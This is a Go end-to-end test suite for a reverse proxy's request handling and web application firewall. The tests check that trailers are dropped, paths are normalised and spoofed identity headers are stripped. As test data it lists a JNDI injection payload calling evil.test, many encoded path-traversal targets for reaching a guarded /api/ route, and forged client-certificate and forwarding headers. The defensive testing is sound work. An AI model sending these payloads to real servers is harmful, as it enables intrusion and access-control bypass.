package proxy

// End-to-end tests of "one request, one truth" (issue 17, findings 1, 3 and
// 4): what the router matches, what the WAF inspects and what the upstream
// receives are the same request: no request trailer turns into a header,
// the path routed is the path forwarded, and the headers the proxy owns
// carry the proxy's word only.

import (
	"bufio"
	"crypto/tls"
	"fmt"
	"io"
	"path"
	"strings"
	"testing"
	"time"

	"github.com/rampart-proxy/rampart/internal/testcert"
)

// chunkedRequest is a POST of body to target in chunks of at most 16 KiB,
// with the trailer fields given and the header lines extra.
func chunkedRequest(target, body string, trailers []string, extra ...string) string {
	var b strings.Builder
	b.WriteString("POST " + target + " HTTP/1.1\r\nHost: app.test\r\nContent-Type: application/x-www-form-urlencoded\r\n")
	b.WriteString("Transfer-Encoding: chunked\r\n")
	for _, h := range extra {
		b.WriteString(h + "\r\n")
	}
	b.WriteString("\r\n")
	for rest := body; len(rest) > 0; {
		n := min(len(rest), 16<<10)
		fmt.Fprintf(&b, "%x\r\n%s\r\n", n, rest[:n])
		rest = rest[n:]
	}
	b.WriteString("0\r\n")
	for _, t := range trailers {
		b.WriteString(t + "\r\n")
	}
	b.WriteString("\r\n")
	return b.String()
}

// TestE2ERequestTrailersDropped: a chunked request's trailer fields reach
// the upstream neither as header fields nor as trailers, whatever their name
// (a WAF payload, the client-certificate subject, X-Forwarded-For, an
// ordinary one), announced by a Trailer field or not, on a route with a WAF
// or without, for a body read whole and one streamed; the body itself goes
// through. Trailer fields fasthttp forbids (framing, routing, X-Forwarded-*)
// fail the request with 400, and never reach the upstream either. nginx drops request
// trailers too.
func TestE2ERequestTrailersDropped(t *testing.T) {
	up := okUpstream(t)
	p := startProxy(t, fmt.Sprintf(`
listeners:
  web:
    address: 127.0.0.1:0
upstreams:
  app:
    targets: [{url: "http://%s"}]
waf:
  guard: {mode: block}
routes:
  - name: guarded
    match: {path_prefix: /waf/}
    upstream: app
    waf: guard
  - name: plain
    upstream: app
access_log: {path: "off"}
`, up.addr()))

	small := "a=hello&b=world"
	large := "a=" + strings.Repeat("x", 100<<10) // beyond smallBody: streamed
	trailers := []struct {
		name, field string
		status      int // 200, or 400 for a field fasthttp forbids in a trailer
	}{
		{"WAF payload", "User-Agent: ${jndi:ldap://evil.test/a}", 200},
		{"client certificate subject", "X-Client-Cert-Subject: CN=admin", 200},
		{"forbidden: forwarded for", "X-Forwarded-For: 10.9.9.9", 400},
		{"request id", "X-Request-Id: trailer-id", 200},
		{"ordinary field", "X-Trailer-Test: t1", 200},
		{"underscore name", "X_Api_Key: t2", 200},
		{"forbidden: host", "Host: evil.test", 400},
		{"forbidden: content-length", "Content-Length: 3", 400},
		{"forbidden: hop-by-hop", "Keep-Alive: timeout=5", 400},
		{"forbidden: connection", "Connection: close", 400},
	}
	for _, route := range []string{"/waf/post", "/plain/post"} {
		for _, size := range []struct {
			name, body string
		}{{"small body", small}, {"large body", large}} {
			for _, announce := range []bool{false, true} {
				for _, tr := range trailers {
					name := fmt.Sprintf("%s %s announced=%v %s", route, size.name, announce, tr.name)
					t.Run(name, func(t *testing.T) {
						fieldName, fieldValue, _ := strings.Cut(tr.field, ": ")
						var extra []string
						if announce {
							extra = append(extra, "Trailer: "+fieldName)
						}
						before := up.count()
						resp := dialRaw(t, p.addr).roundTrip(chunkedRequest(route, size.body, []string{tr.field}, extra...))
						if resp.status() != tr.status {
							t.Fatalf("status: got %d; want %d (body %q)", resp.status(), tr.status, resp.body)
						}
						if tr.status != 200 {
							// A refused request may have started upstream (a
							// streamed body), but never completed there.
							if up.count() != before {
								t.Fatalf("upstream requests: got %d more; want none", up.count()-before)
							}
							return
						}
						if up.count() != before+1 {
							t.Fatalf("upstream requests: got %d more; want 1", up.count()-before)
						}
						got := up.last()
						for _, f := range append(append([][2]string{}, got.fields...), got.trailers...) {
							if strings.Contains(f[1], fieldValue) || strings.EqualFold(f[0], fieldName) && !isProxySet(f[0]) {
								t.Errorf("upstream got %s: %q; want the trailer field dropped", f[0], f[1])
							}
						}
						if len(got.trailers) != 0 {
							t.Errorf("upstream trailers: got %q; want none", got.trailers)
						}
						if string(got.body) != size.body {
							t.Errorf("upstream body: got %d bytes; want the %d sent", len(got.body), len(size.body))
						}
					})
				}
			}
		}
	}
}

// isProxySet reports the fields the proxy sets on every request.
func isProxySet(name string) bool {
	for _, n := range []string{"X-Forwarded-For", "X-Forwarded-Proto", "X-Forwarded-Host", "X-Request-Id"} {
		if strings.EqualFold(name, n) {
			return true
		}
	}
	return false
}

// upstreamReadings returns the paths that upstreams of several kinds read
// in a request target: as received (Express matches the raw path), decoded
// once and resolved (nginx, Go's ServeMux), with backslashes as slashes
// (IIS), with ";" parameters dropped from each segment before decoding
// (Tomcat, Spring), and decoded twice (a second proxy hop that decodes).
func upstreamReadings(target string) []string {
	p, _, _ := strings.Cut(target, "?")
	resolve := func(s string) string {
		c := path.Clean("/" + s)
		if strings.HasSuffix(s, "/") && c != "/" {
			c += "/"
		}
		return c
	}
	var noParams []string
	for _, seg := range strings.Split(p, "/") {
		seg, _, _ = strings.Cut(seg, ";")
		noParams = append(noParams, seg)
	}
	return []string{
		p,
		resolve(decodeOnce(p)),
		resolve(strings.ReplaceAll(decodeOnce(p), `\`, "/")),
		resolve(decodeOnce(strings.Join(noParams, "/"))),
		resolve(decodeOnce(decodeOnce(p))),
	}
}

// pathAttacks are request targets that try to reach /api/ past the router
// (or the open route's upstream past /api/): encoded dots, encoded slashes,
// backslashes raw and encoded, Tomcat path parameters, double encoding,
// empty segments, plain dot segments.
var pathAttacks = []string{
	"/open/%2e%2e/api/secret",
	"/open/%2E%2E/api/secret",
	"/open/.%2e/api/secret",
	"/open/..%2fapi/secret",
	"/open/%2e%2e%2Fapi/secret",
	"/open%2f..%2fapi/secret",
	`/open\..\api/secret`,
	"/open/..%5capi/secret",
	"/open/..%5Capi%5Csecret",
	"/open/..;/api/secret",
	"/open/.;/../api/secret",
	"/open/%2e%2e;x=1/api/secret",
	"/open/%252e%252e/api/secret",
	"/open/%252E%252E%252Fapi/secret",
	"/open/%25252e%25252e/api/secret",
	"//api/secret",
	"/open/../api/secret",
	"/open/./../api/secret?q=1",
	"/%61pi/secret",
	"/api%2fsecret",
	"/open/x/../../api/secret",
	// The other way: aimed at the open route while the upstream reads /api/.
	"/api/%2e%2e/open/x",
	"/api/..%2Fopen/x",
	`/api\..\open/x`,
	"/api/..;/open/x",
	"/api/%252e%252e/open/x",
	// Path parameters on an ordinary segment: a servlet container drops
	// them before mapping ("/api;x=1/secret" is "/api/secret" to Tomcat).
	"/api;x=1/secret",
	"/api;/secret",
	"/%61pi;jsessionid=0/secret",
	"/api%3bx/secret",
	"/open;x/../api;y/secret",
}

// TestE2EPathHandling: the route a path is matched to is the one every
// upstream reading of the forwarded path belongs to. A request aimed at the
// guarded /api/ prefix through encodings, dot segments, backslashes or path
// parameters is routed to /api/, or refused with 400; it never reaches the
// open route's upstream with a path that reads as /api/. Per listener:
// normalize (the default) forwards the normal form, reject refuses what is
// ambiguous, raw matches and forwards the path as received.
func TestE2EPathHandling(t *testing.T) {
	api := okUpstream(t)
	open := okUpstream(t)
	p := startProxy(t, fmt.Sprintf(`
listeners:
  web:
    address: 127.0.0.1:0
  strict:
    address: 127.0.0.1:0
    path_handling: reject
  raw:
    address: 127.0.0.1:0
    path_handling: raw
upstreams:
  api:
    targets: [{url: "http://%s"}]
  open:
    targets: [{url: "http://%s"}]
routes:
  - name: api
    match: {path_prefix: /api/}
    upstream: api
  - name: open
    upstream: open
access_log: {path: "off"}
`, api.addr(), open.addr()))

	send := func(t *testing.T, addr, target string) (status int, reached *rawUpstream, got string) {
		t.Helper()
		apiBefore, openBefore := api.count(), open.count()
		resp := dialRaw(t, addr).roundTrip("GET " + target + " HTTP/1.1\r\nHost: app.test\r\n\r\n")
		switch {
		case api.count() > apiBefore:
			reached = api
		case open.count() > openBefore:
			reached = open
		}
		if reached != nil {
			got, _, _ = strings.Cut(reached.last().first[len("GET "):], " ")
		}
		return resp.status(), reached, got
	}
	under := func(p, prefix string) bool { return strings.HasPrefix(p, prefix) || p+"/" == prefix }

	for _, lis := range []string{"web", "strict", "raw"} {
		addr := p.srv.Addr(lis)
		for _, target := range pathAttacks {
			t.Run(lis+" "+target, func(t *testing.T) {
				status, reached, got := send(t, addr, target)
				if lis == "raw" {
					// The path as received, for the router and the upstream
					// alike: the operator chose that the upstream resolves it.
					if status != 200 || got != target || (reached == api) != strings.HasPrefix(target, "/api/") {
						t.Errorf("raw: got %d, upstream %s, target %q; want 200, the route of the raw path, %q as received",
							status, upName(reached, api, open), got, target)
					}
					return
				}
				switch {
				case status == 400 && reached == nil:
				case status == 200 && reached == api:
					readings := upstreamReadings(got)
					if lis == "strict" {
						// reject forwards escapes of letters and digits as
						// received ("/%61pi"): the raw reading differs only
						// by an equivalent encoding, and never reads as
						// /api/ when the router did not match it.
						readings = readings[1:]
					}
					for _, r := range readings {
						if !under(strings.ToLower(r), "/api/") {
							t.Errorf("routed to api, whose upstream got %q, which reads as %q; want one path", got, r)
						}
					}
				case status == 200 && reached == open:
					for _, r := range upstreamReadings(got) {
						if under(strings.ToLower(r), "/api/") {
							t.Errorf("routed to open, whose upstream got %q, which reads as %q; want it routed to /api/ or refused", got, r)
						}
					}
				default:
					t.Fatalf("status %d, reached %v; want 200 from an upstream or 400", status, reached != nil)
				}
			})
		}
	}

	// What each mode forwards, exactly.
	for _, tc := range []struct {
		lis, target string
		status      int
		up          *rawUpstream
		want        string // the target the upstream receives
	}{
		{"web", "/api/%2e%2e/open/x?a=%2e%2e&b", 200, open, "/open/x?a=%2e%2e&b"},
		{"web", "/open/%2E%2E/api/x", 200, api, "/api/x"},
		{"web", "/open/..%2Fapi/x", 200, api, "/api/x"},
		{"web", `/open\..\api\x`, 200, api, "/api/x"},
		{"web", "/api//x/./y/../z", 200, api, "/api/x/z"},
		{"web", "/api/caf%C3%A9%20x%3F", 200, api, "/api/caf%C3%A9%20x%3F"},
		{"web", "/api/%7Euser", 200, api, "/api/~user"},
		{"web", "/api/x;jsessionid=1", 200, api, "/api/x;jsessionid=1"},
		{"web", "/open/..;/api/x", 400, nil, ""},
		{"web", "/open/page;jsessionid=1", 200, open, "/open/page;jsessionid=1"},
		{"web", "/open;v=2/page", 200, open, "/open;v=2/page"},
		{"web", "/api;x=1/secret", 400, nil, ""},
		{"strict", "/api;x=1/secret", 400, nil, ""},
		{"strict", "/api/x;jsessionid=1", 200, api, "/api/x;jsessionid=1"},
		{"raw", "/api;x=1/secret", 200, open, "/api;x=1/secret"},
		{"web", "/open/%252e%252e/api/x", 400, nil, ""},
		{"web", "/open/%00", 400, nil, ""},
		{"strict", "/api/caf%C3%A9%20x", 200, api, "/api/caf%C3%A9%20x"},
		{"strict", "/api/x/../y", 400, nil, ""},
		{"strict", "/api/x%2Fy", 400, nil, ""},
		{"strict", "/api//x", 400, nil, ""},
		{"strict", "/api/dump%2Erdb", 400, nil, ""},
		{"strict", `/api\x`, 400, nil, ""},
		{"strict", "/api/%2541", 400, nil, ""},
		{"raw", "/api/%2e%2e/open/x", 200, api, "/api/%2e%2e/open/x"},
		{"raw", "/open/../api/x", 200, open, "/open/../api/x"},
		{"raw", "/%61pi/x", 200, open, "/%61pi/x"},
	} {
		t.Run("exact "+tc.lis+" "+tc.target, func(t *testing.T) {
			status, reached, got := send(t, p.srv.Addr(tc.lis), tc.target)
			if status != tc.status || reached != tc.up || got != tc.want {
				t.Errorf("got %d, upstream %s, target %q; want %d, upstream %s, target %q",
					status, upName(reached, api, open), got, tc.status, upName(tc.up, api, open), tc.want)
			}
		})
	}
}

func upName(u, api, open *rawUpstream) string {
	switch u {
	case api:
		return "api"
	case open:
		return "open"
	}
	return "none"
}

// TestE2EWAFSeesForwardedPath: the WAF inspects the path the upstream
// receives: an exclusion's path_prefix is compared with the normalized path,
// so "/search/../admin" is not excluded as if it were under /search, and a
// rule on REQUEST_FILENAME sees the resolved path; REQUEST_URI_RAW keeps
// what the client sent, for the CRS rules that look for traversal in it.
func TestE2EWAFSeesForwardedPath(t *testing.T) {
	up := okUpstream(t)
	p := startProxy(t, fmt.Sprintf(`
listeners:
  web:
    address: 127.0.0.1:0
upstreams:
  app:
    targets: [{url: "http://%s"}]
waf:
  guard:
    mode: block
    anomaly_threshold: 100000 # the CRS scores, only these rules block
    rules: |
      SecRule ARGS:q "@contains evil" "id:10001,phase:2,deny,status:403,log"
      SecRule REQUEST_FILENAME "@beginsWith /private/" "id:10002,phase:1,deny,status:403,log"
      SecRule REQUEST_URI_RAW "@contains /hidden/../" "id:10003,phase:1,deny,status:418,log"
    exclusions:
      - rule_ids: [10001]
        path_prefix: /search/
routes:
  - name: all
    upstream: app
    waf: guard
access_log: {path: "off"}
`, up.addr()))
	for _, tc := range []struct {
		target string
		status int
		want   string // at the upstream when 200
	}{
		{"/search/x?q=evil", 200, "/search/x?q=evil"},
		{"/admin?q=evil", 403, ""},
		{"/search/../admin?q=evil", 403, ""},
		{"/search/%2e%2e/admin?q=evil", 403, ""},
		{"/search/..%2Fadmin?q=evil", 403, ""},
		{`/search\..\admin?q=evil`, 403, ""},
		{"/x/../search/y?q=evil", 200, "/search/y?q=evil"},
		{"/public/../private/x", 403, ""},
		{"/public/%2e%2e/private/x", 403, ""},
		{"//private/x", 403, ""},
		{"/a/hidden/../b", 418, ""},
	} {
		t.Run(tc.target, func(t *testing.T) {
			before := up.count()
			resp := dialRaw(t, p.addr).roundTrip("GET " + tc.target + " HTTP/1.1\r\nHost: app.test\r\n\r\n")
			if resp.status() != tc.status {
				t.Fatalf("status: got %d; want %d", resp.status(), tc.status)
			}
			if tc.status != 200 {
				if up.count() != before {
					t.Errorf("upstream got %q; want nothing", up.last().first)
				}
				return
			}
			if got := up.last().first; got != "GET "+tc.want+" HTTP/1.1" {
				t.Errorf("upstream request line: got %q; want %q", got, "GET "+tc.want+" HTTP/1.1")
			}
		})
	}
}

// TestE2EIdentityHeaders: the client's word for the fields the proxy owns
// never reaches the upstream: X-Client-Cert-Subject (any case, underscore
// spelling) on a listener without client certificates; underscore names
// (dropped by default, as nginx does); Forwarded, X-Real-IP and every
// X-Forwarded-* from a peer that is not a trusted proxy; duplicates of the
// fields the proxy sets. A Connection field cannot remove what the proxy
// sets. From a trusted proxy, the forwarding fields are kept.
func TestE2EIdentityHeaders(t *testing.T) {
	up := okUpstream(t)
	base := func(extraListener, extraTop string) string {
		return oneUpstreamConfig(up.addr(), extraListener, "", extraTop)
	}
	plain := startProxy(t, base("", ""))
	keepUnderscores := startProxy(t, base("underscores_in_headers: true", ""))
	trusted := startProxy(t, base("", "trusted_proxies: [127.0.0.1]"))

	type want struct {
		gone []string          // field names that must not reach the upstream
		is   map[string]string // field -> the only value the upstream may get
		kept map[string]string // field -> value that must reach it
	}
	cases := []struct {
		name    string
		p       *testProxy
		headers []string
		want    want
	}{
		{"subject without client certificates", plain,
			[]string{"X-Client-Cert-Subject: CN=admin"},
			want{gone: []string{"X-Client-Cert-Subject"}}},
		{"subject in lower case", plain,
			[]string{"x-client-cert-subject: CN=admin"},
			want{gone: []string{"X-Client-Cert-Subject"}}},
		{"subject twice", plain,
			[]string{"X-Client-Cert-Subject: CN=a", "X-CLIENT-CERT-SUBJECT: CN=b"},
			want{gone: []string{"X-Client-Cert-Subject"}}},
		{"subject underscore spelling", plain,
			[]string{"X_Client_Cert_Subject: CN=admin"},
			want{gone: []string{"X_Client_Cert_Subject"}}},
		{"subject underscore spelling, underscores kept", keepUnderscores,
			[]string{"X_Client_Cert_Subject: CN=admin", "x_client_cert_subject: CN=root"},
			want{gone: []string{"X_Client_Cert_Subject"}}},
		{"subject named by Connection", plain,
			[]string{"Connection: X-Client-Cert-Subject", "X-Client-Cert-Subject: CN=admin"},
			want{gone: []string{"X-Client-Cert-Subject", "Connection"}}},
		{"underscore names dropped", plain,
			[]string{"X_Forwarded_For: 6.6.6.6", "X_Api_Key: k", "x_custom_thing: v", "X-Dash: d"},
			want{gone: []string{"X_Forwarded_For", "X_Api_Key", "X_Custom_Thing"}, kept: map[string]string{"X-Dash": "d"},
				is: map[string]string{"X-Forwarded-For": "127.0.0.1"}}},
		{"underscore names kept when asked, owned ones not", keepUnderscores,
			[]string{"X_Forwarded_For: 6.6.6.6", "X_Real_IP: 6.6.6.6", "X_Request_Id: forged", "X_Forwarded_Proto: https", "X_Api_Key: k"},
			want{gone: []string{"X_Forwarded_For", "X_Real_Ip", "X_Request_Id", "X_Forwarded_Proto"},
				kept: map[string]string{"X_Api_Key": "k"}, is: map[string]string{"X-Forwarded-For": "127.0.0.1", "X-Forwarded-Proto": "http"}}},
		{"forwarding fields from an untrusted client", plain,
			[]string{"Forwarded: for=6.6.6.6;proto=https", "X-Real-IP: 6.6.6.6", "X-Forwarded-Port: 443",
				"X-Forwarded-Prefix: /admin", "X-Forwarded-Server: evil", "X-Forwarded-Ssl: on", "X-Forwarded-Scheme: https",
				"x-forwarded-client-cert: Hash=x"},
			want{gone: []string{"Forwarded", "X-Real-IP", "X-Forwarded-Port", "X-Forwarded-Prefix", "X-Forwarded-Server",
				"X-Forwarded-Ssl", "X-Forwarded-Scheme", "X-Forwarded-Client-Cert"}}},
		{"client address and URL claims from an untrusted client", plain,
			[]string{"True-Client-IP: 6.6.6.6", "client-ip: 6.6.6.6", "X-Client-IP: 6.6.6.6", "X-Cluster-Client-IP: 6.6.6.6",
				"CF-Connecting-IP: 6.6.6.6", "Fastly-Client-IP: 6.6.6.6", "X-Remote-Addr: 6.6.6.6",
				"X-Original-URL: /admin/", "x-rewrite-url: /admin/", "X-Original-URI: /admin/", "X-Clientele: v"},
			want{gone: []string{"True-Client-IP", "Client-IP", "X-Client-IP", "X-Cluster-Client-IP", "CF-Connecting-IP",
				"Fastly-Client-IP", "X-Remote-Addr", "X-Original-URL", "X-Rewrite-URL", "X-Original-URI"},
				kept: map[string]string{"X-Clientele": "v"}}},
		{"claims' underscore spellings, underscores kept", keepUnderscores,
			[]string{"True_Client_IP: 6.6.6.6", "X_Original_URL: /admin/"},
			want{gone: []string{"True_Client_Ip", "X_Original_Url"}}},
		{"duplicate proto and host from an untrusted client", plain,
			[]string{"X-Forwarded-Proto: https", "X-Forwarded-Proto: https", "X-Forwarded-Host: a.evil", "X-Forwarded-Host: b.evil"},
			want{is: map[string]string{"X-Forwarded-Proto": "http", "X-Forwarded-Host": "app.test"}}},
		{"duplicate request ids", plain,
			[]string{"X-Request-Id: id-1", "X-Request-Id: id-2"},
			want{is: map[string]string{"X-Request-Id": "id-1"}}},
		{"Connection cannot remove what the proxy sets", plain,
			[]string{"Connection: X-Forwarded-Proto, X-Forwarded-Host, X-Forwarded-For, X-Request-Id, X-Real-IP", "X-Real-IP: 6.6.6.6"},
			want{gone: []string{"X-Real-IP", "Connection"}, is: map[string]string{"X-Forwarded-Proto": "http",
				"X-Forwarded-Host": "app.test", "X-Forwarded-For": "127.0.0.1"}}},
		{"forwarding fields from a trusted proxy kept", trusted,
			[]string{"Forwarded: for=203.0.113.7", "X-Real-IP: 203.0.113.7", "X-Forwarded-Port: 443", "X-Forwarded-Proto: https",
				"True-Client-IP: 203.0.113.7"},
			want{kept: map[string]string{"Forwarded": "for=203.0.113.7", "X-Real-IP": "203.0.113.7", "X-Forwarded-Port": "443",
				"True-Client-IP": "203.0.113.7"},
				is: map[string]string{"X-Forwarded-Proto": "https"}}},
		{"subject from a trusted proxy still dropped", trusted,
			[]string{"X-Client-Cert-Subject: CN=admin", "X_Forwarded_For: 6.6.6.6"},
			want{gone: []string{"X-Client-Cert-Subject", "X_Forwarded_For"}}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			resp := rawGet(t, tc.p.addr, "app.test", "/id", tc.headers...)
			if resp.status() != 200 {
				t.Fatalf("status: got %d; want 200", resp.status())
			}
			checkFields(t, up.last(), tc.want.gone, tc.want.is, tc.want.kept)
		})
	}
}

// checkFields checks the fields an upstream got: none named in gone (any
// case), exactly one value for each of is, and the value of each of kept.
func checkFields(t *testing.T, got *rawMessage, gone []string, is, kept map[string]string) {
	t.Helper()
	for _, name := range gone {
		if vs := got.values(name); len(vs) > 0 {
			t.Errorf("upstream got %s: %q; want it removed", name, vs)
		}
	}
	for name, want := range is {
		if vs := got.values(name); len(vs) != 1 || vs[0] != want {
			t.Errorf("upstream %s: got %q; want [%q]", name, vs, want)
		}
	}
	for name, want := range kept {
		if vs := got.values(name); len(vs) != 1 || vs[0] != want {
			t.Errorf("upstream %s: got %q; want [%q]", name, vs, want)
		}
	}
}

// TestE2EIdentityHeadersClientCert: on a listener with client certificates,
// the upstream gets the verified subject alone: not beside a client's
// underscore spelling of it or a trailer field named like it, and a
// Connection field naming it cannot remove it.
func TestE2EIdentityHeadersClientCert(t *testing.T) {
	dir := t.TempDir()
	ca := testcert.NewCA(t, "Server CA")
	clientCA := testcert.NewCA(t, "Client CA")
	cf, kf := ca.Issue(t, "mtls", time.Time{}, false, "mtls.example.com").Write(t, dir, "server")
	clientCAFile := clientCA.WriteCA(t, dir, "client-ca")
	alice := clientCA.Issue(t, "alice", time.Time{}, true).TLSCert(t)
	up := okUpstream(t)
	for _, underscores := range []bool{false, true} {
		extra := ""
		if underscores {
			extra = "underscores_in_headers: true\n"
		}
		p := startProxy(t, oneUpstreamConfig(up.addr(),
			extra+staticTLSYAML("client_ca_file: "+clientCAFile+"\nclient_auth: require", [2]string{cf, kf}), "", ""))
		conf := &tls.Config{ServerName: "mtls.example.com", RootCAs: testcert.Pool(ca.PEM), Certificates: []tls.Certificate{alice}}
		const subject = "CN=alice,O=Rampart tests"
		for _, tc := range []struct {
			name string
			req  string
		}{
			{"Connection names the subject", "GET /c HTTP/1.1\r\nHost: mtls.example.com\r\nConnection: X-Client-Cert-Subject\r\n\r\n"},
			{"Connection names the subject in lower case, with a forged one",
				"GET /c HTTP/1.1\r\nHost: mtls.example.com\r\nConnection: keep-alive, x-client-cert-subject\r\nX-Client-Cert-Subject: CN=admin\r\n\r\n"},
			{"underscore spelling beside it", "GET /c HTTP/1.1\r\nHost: mtls.example.com\r\nX_Client_Cert_Subject: CN=admin\r\n\r\n"},
			{"trailer named like it", chunkedRequest("/c", "a=1", []string{"X-Client-Cert-Subject: CN=admin"})},
			{"trailer named like it, announced", chunkedRequest("/c", "a=1", []string{"X-Client-Cert-Subject: CN=admin"}, "Trailer: X-Client-Cert-Subject")},
			{"trailer named like it, large body", chunkedRequest("/c", strings.Repeat("b", 80<<10), []string{"X-Client-Cert-Subject: CN=admin"})},
		} {
			t.Run(fmt.Sprintf("underscores=%v %s", underscores, tc.name), func(t *testing.T) {
				req := strings.Replace(tc.req, "Host: app.test", "Host: mtls.example.com", 1)
				tc2, err := tlsDial(p.addr, conf)
				if err != nil {
					t.Fatal(err)
				}
				defer tc2.Close()
				if _, err := io.WriteString(tc2, req); err != nil {
					t.Fatal(err)
				}
				method, _, _ := strings.Cut(req, " ")
				resp, err := readRawResponse(bufio.NewReader(tc2), method)
				if err != nil {
					t.Fatal(err)
				}
				if resp.status() != 200 {
					t.Fatalf("status: got %d; want 200", resp.status())
				}
				got := up.last()
				var all []string
				for _, f := range append(append([][2]string{}, got.fields...), got.trailers...) {
					if nameIsDash([]byte(f[0]), clientSubjectHeader) {
						all = append(all, f[0]+": "+f[1])
					}
				}
				if want := []string{clientSubjectHeader + ": " + subject}; strings.Join(all, "|") != strings.Join(want, "|") {
					t.Errorf("upstream subject fields: got %q; want %q", all, want)
				}
			})
		}
	}
}

// TestE2ECookiesForwardedAsReceived: the Cookie fields reach the upstream
// as the client sent them and the WAF saw them, also when a trusted proxy's
// X-Forwarded-For, a header route matcher, sticky sessions or a cookie hash
// key made the proxy read them (fasthttp would otherwise gather them into
// one field, rewritten, dropping the values it finds invalid).
func TestE2ECookiesForwardedAsReceived(t *testing.T) {
	up := okUpstream(t)
	p := startProxy(t, fmt.Sprintf(`
listeners:
  web:
    address: 127.0.0.1:0
upstreams:
  app:
    balancer: consistent_hash
    hash_key: "cookie:sid"
    targets: [{url: "http://%s"}]
  sticky:
    sticky: {cookie: pin}
    targets: [{url: "http://%s"}]
routes:
  - name: sticky
    match: {path_prefix: /sticky/, headers: {X-Route: sticky}}
    upstream: sticky
  - name: hashed
    upstream: app
trusted_proxies: [127.0.0.1]
access_log: {path: "off"}
`, up.addr(), up.addr()))
	cookies := []string{"Cookie: sid=1; theme=dark", "Cookie: a=\"q,uoted\"; b=x y;;c", "Cookie: pin=0"}
	for _, target := range []string{"/hashed/x", "/sticky/x"} {
		t.Run(target, func(t *testing.T) {
			resp := rawGet(t, p.addr, "app.test", target, append([]string{"X-Route: sticky", "X-Forwarded-For: 203.0.113.9"}, cookies...)...)
			if resp.status() != 200 {
				t.Fatalf("status: got %d; want 200", resp.status())
			}
			var want []string
			for _, c := range cookies {
				want = append(want, strings.TrimPrefix(c, "Cookie: "))
			}
			if got := up.last().values("Cookie"); strings.Join(got, "\n") != strings.Join(want, "\n") {
				t.Errorf("upstream Cookie fields: got %q; want %q", got, want)
			}
		})
	}
}

// TestE2EWAFSeesOwnedFields: the WAF sees the fields the proxy owns as the
// proxy sets them, so a rule keyed on them cannot be talked round by a
// client: a forged X-Client-Cert-Subject (the listener has no client
// certificates) is not believed, and the Host of an absolute-form target is
// the one the upstream gets, not the Host field beside it.
func TestE2EWAFSeesOwnedFields(t *testing.T) {
	up := okUpstream(t)
	p := startProxy(t, fmt.Sprintf(`
listeners:
  web:
    address: 127.0.0.1:0
upstreams:
  app:
    targets: [{url: "http://%s"}]
waf:
  guard:
    mode: block
    anomaly_threshold: 100000
    rules: |
      SecRule REQUEST_HEADERS:X-Client-Cert-Subject "@streq CN=admin" "id:10010,phase:1,pass,nolog,ctl:ruleRemoveById=10012"
      SecRule REQUEST_HEADERS:Host "@streq trusted.test" "id:10011,phase:1,pass,nolog,ctl:ruleRemoveById=10012"
      SecRule ARGS:q "@contains evil" "id:10012,phase:2,deny,status:403,log"
routes:
  - name: all
    upstream: app
    waf: guard
access_log: {path: "off"}
`, up.addr()))
	for _, tc := range []struct {
		name, req string
		status    int
	}{
		{"no exception", "GET /?q=evil HTTP/1.1\r\nHost: app.test\r\n\r\n", 403},
		{"forged subject", "GET /?q=evil HTTP/1.1\r\nHost: app.test\r\nX-Client-Cert-Subject: CN=admin\r\n\r\n", 403},
		{"forged subject, lower case", "GET /?q=evil HTTP/1.1\r\nHost: app.test\r\nx-client-cert-subject: CN=admin\r\n\r\n", 403},
		{"Host beside an absolute-form target", "GET http://victim.test/?q=evil HTTP/1.1\r\nHost: trusted.test\r\n\r\n", 403},
		{"Host of the absolute-form target", "GET http://trusted.test/?q=evil HTTP/1.1\r\nHost: victim.test\r\n\r\n", 200},
		{"Host field", "GET /?q=evil HTTP/1.1\r\nHost: trusted.test\r\n\r\n", 200},
	} {
		t.Run(tc.name, func(t *testing.T) {
			resp := dialRaw(t, p.addr).roundTrip(tc.req)
			if resp.status() != tc.status {
				t.Errorf("status: got %d; want %d", resp.status(), tc.status)
			}
		})
	}
}

// TestE2EOneContentType: a request with more than one Content-Type field is
// refused with 400: the WAF reads the body by the first, fasthttp keeps the
// last for the upstream, so the two would parse different bodies.
func TestE2EOneContentType(t *testing.T) {
	up := okUpstream(t)
	p := startProxy(t, oneUpstreamConfig(up.addr(), "", "", ""))
	body := `{"q":"x"}`
	for _, tc := range []struct {
		name   string
		fields []string
		status int
	}{
		{"one", []string{"Content-Type: application/json"}, 200},
		{"two", []string{"Content-Type: application/x-www-form-urlencoded", "Content-Type: application/json"}, 400},
		{"two, other case", []string{"Content-Type: application/json", "content-type: text/plain"}, 400},
	} {
		t.Run(tc.name, func(t *testing.T) {
			before := up.count()
			req := "POST /ct HTTP/1.1\r\nHost: app.test\r\n" + strings.Join(tc.fields, "\r\n") +
				"\r\nContent-Length: " + fmt.Sprint(len(body)) + "\r\n\r\n" + body
			resp := dialRaw(t, p.addr).roundTrip(req)
			if resp.status() != tc.status {
				t.Fatalf("status: got %d; want %d", resp.status(), tc.status)
			}
			if got := up.count() - before; (tc.status == 200) != (got == 1) {
				t.Errorf("upstream requests: got %d", got)
			}
		})
	}
}
